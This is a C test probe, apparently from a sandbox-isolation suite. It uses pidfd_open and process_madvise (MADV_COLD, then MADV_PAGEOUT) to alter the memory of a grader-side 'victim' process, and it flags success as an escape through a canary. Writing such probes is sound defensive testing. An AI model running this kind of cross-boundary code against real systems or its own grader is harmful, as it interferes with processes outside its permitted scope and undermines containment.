// attack: madvise_dontneed
// flags: --no-fork --no-network --clean-env --cpu 5 --mem 256
// setup: victim
// needs: root
// evidence: process_madvise on a pidfd of a grader-side process changes its memory residency (MADV_COLD/PAGEOUT accepted for the victim's pages) (canary remote_madvise)
// escaped-if: ev remote_madvise
#include "attack.h"
#include <sys/mman.h>
#include <sys/uio.h>

int main(int argc, char **argv)
{
	attack_init(argc, argv);
	unsigned long sa, fa;
	if (read_victim_addrs(&sa, &fa))
		return 2;
	long pfd = syscall(SYS_pidfd_open, (pid_t)arg_long("victim"), 0);
	if (pfd < 0) {
		say("pidfd_open: %s\n", strerror(errno));
		return 1;
	}
	struct iovec iov = { (void *)(sa & ~4095UL), 4096 };
	long r = syscall(SYS_process_madvise, pfd, &iov, 1, MADV_COLD, 0);
	if (r < 0)
		r = syscall(SYS_process_madvise, pfd, &iov, 1, MADV_PAGEOUT, 0);
	say("process_madvise: %ld %s\n", r, r < 0 ? strerror(errno) : "");
	if (r > 0)
		canary("remote_madvise", "advised the victim's memory\n");
	return 0;
}
